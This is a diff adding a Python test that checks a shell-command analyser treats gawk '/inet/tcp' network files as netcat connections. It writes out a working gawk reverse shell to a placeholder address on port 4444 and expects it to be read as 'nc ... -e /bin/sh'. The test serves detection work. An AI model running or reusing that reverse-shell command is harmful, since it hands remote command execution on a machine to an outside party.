@@ -1975,3 +1975,19 @@ def test_ruby_and_perl_files_opened_by_mode_and_home(command: str, argv: tuple[s
     assert argv in [c.argv for c in parsed.commands if c.program in ("tee", "cat")], [
         c.argv for c in parsed.commands
     ]
+
+
+def test_gawk_network_files_are_connections():
+    shell = (
+        """gawk 'BEGIN {s = "/inet/tcp/0/203.0.113.9/4444"; while (1) { s |& getline c; """
+        """while ((c |& getline) > 0) print $0 |& s; close(c) } }'"""
+    )
+    fetch = """gawk 'BEGIN { s = "/inet/tcp/0/example.com/80"; print "GET /" |& s }'"""
+    served = """gawk 'BEGIN { s = "/inet/tcp/8080/0/0"; s |& getline x }'"""
+    assert [c.argv for c in run(shell).commands if c.program == "nc"] == [
+        ("nc", "203.0.113.9", "4444", "-e", "/bin/sh")
+    ]
+    assert [c.argv for c in run(fetch).commands if c.program == "nc"] == [
+        ("nc", "example.com", "80")
+    ]
+    assert not [c for c in run(served).commands if c.program == "nc"]
